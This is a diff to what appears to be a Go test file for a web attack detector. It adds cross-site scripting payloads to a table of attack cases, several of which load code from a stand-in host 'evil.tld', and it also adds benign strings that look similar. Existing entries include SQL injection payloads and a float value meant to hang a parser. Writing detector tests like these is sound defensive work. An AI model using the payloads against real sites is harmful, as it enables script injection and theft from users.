@@ -100,6 +100,12 @@ var attackCases = []struct {
 	{"sqli", "query:q", "SELECT 5.e.column_name FROM x"},
 	{"sqli", "body:json:n", "3.2250738585072012e-308 is fine but 2.22507385850720111e-308 hangs"},
 	{"sqli", "query:id", "7 || rpad(user,9,1)"},
+	{"xss", "query:q", `<math><mrow><a xlink:href="javascript:alert(2)">tap</a></mrow></math>`},
+	{"xss", "query:q", "<?IMPORT namespace=\"t\" implementation=\"//evil.tld/x.htc\">"},
+	{"xss", "query:q", "<base x href/=//evil.tld/>"},
+	{"xss", "body:json:css", "<style>@import url(//evil.tld/a.css);</style>"},
+	{"xss", "query:q", `<p xmlns:e="http://www.w3.org/2001/xml-events" e:event="click" e:handler="#run">`},
+	{"xss", "query:q", "+ADw-img src=x onerror=alert(1)+AD4-"},
 }
 
 // hardBenign are inputs that look like attacks to keyword matchers but are ordinary.
@@ -305,6 +311,12 @@ var hardBenign = []struct{ where, in string }{
 	{"query:n", "2.2250738585072014e-308"},
 	{"query:q", "x = a || f(y)"},
 	{"query:q", "release 3 || newer(2)"},
+	{"query:q", `<math><mi>x</mi></math> see <a href="/docs">docs</a>`},
+	{"query:q", "?import the implementation = fast path"},
+	{"body:json:doc", "put the base href / = sign right after the link tag"},
+	{"body:json:css", "@import url(https://fonts.example/css) goes first in a stylesheet"},
+	{"body:json:doc", "XML Events live at http://www.w3.org/2001/xml-events, handler attributes follow"},
+	{"query:q", "roadw-script and ADw-1"},
 }
 
 func TestDetectAttacks(t *testing.T) {
